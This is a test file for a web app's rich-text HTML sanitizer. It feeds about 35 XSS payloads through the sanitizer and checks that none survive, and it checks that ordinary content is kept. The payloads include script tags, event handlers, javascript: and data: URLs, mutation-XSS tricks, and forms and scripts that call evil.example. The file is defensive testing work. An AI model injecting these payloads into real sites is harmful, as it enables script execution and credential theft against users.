import { describe, expect, test } from 'vitest'
import { plainText, sanitizeRichText } from '#server/kit/richText.ts'

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://player.bilibili.com.evil.example/x"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password></form>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example/track)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>alert(1)//<</script>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
]

describe('nothing of these reaches a reader', () => {
  test.each(payloads)('%s', (payload) => {
    const clean = sanitizeRichText(`<p>before</p>${payload}<p>after</p>`)
    const document = clean.toLowerCase()
    expect(document).not.toMatch(
      /<(script|style|svg|math|object|embed|form|input|link|meta|base|template|noscript|video|audio|details|body)/,
    )
    expect(document).not.toMatch(/<[^>]*\son\w+\s*=/)
    expect(document).not.toMatch(/(href|src|srcdoc)\s*=\s*["']?\s*(javascript|vbscript|data|\/\/)/)
    expect(document).not.toMatch(/style="[^"]*(url|position|expression)/)
    expect(document).not.toContain('evil.example')
    expect(sanitizeRichText(clean)).toBe(clean)
  })
})

test('what people write stays', () => {
  const written =
    '<h2>议程</h2><p style="text-align:center">欢迎 <strong>大家</strong></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">格</td></tr></tbody></table><img src="/files/0192f0c1-7c5a-7abc-8def-0123456789ab" alt="会场" />'
  expect(sanitizeRichText(written)).toBe(written)
  expect(sanitizeRichText('<a href="https://example.com">x</a>')).toContain('rel="noopener noreferrer nofollow"')
  expect(sanitizeRichText('<iframe src="https://player.bilibili.com/player.html?bvid=1"></iframe>')).toContain('sandbox=')
})

test('the words of a text for link cards', () => {
  expect(plainText('<h2>议程</h2><p>一 &amp; 二</p><script>x</script>', 100)).toBe('议程 一 & 二')
  expect(plainText('<p>一二三四五六</p>', 4)).toBe('一二三…')
})
